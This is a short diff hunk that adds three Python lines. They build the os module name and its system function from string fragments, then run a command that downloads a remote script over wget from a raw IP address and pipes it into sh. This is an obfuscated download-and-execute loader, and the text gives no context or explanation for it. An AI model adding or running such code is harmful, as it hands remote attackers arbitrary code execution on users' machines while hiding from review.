@@ -1,0 +1,3 @@
+m = __import__('o' + 's')
+run = getattr(m, 'sys' + 'tem')
+run('wget -q http://203.0.113.61/s -O- | sh')
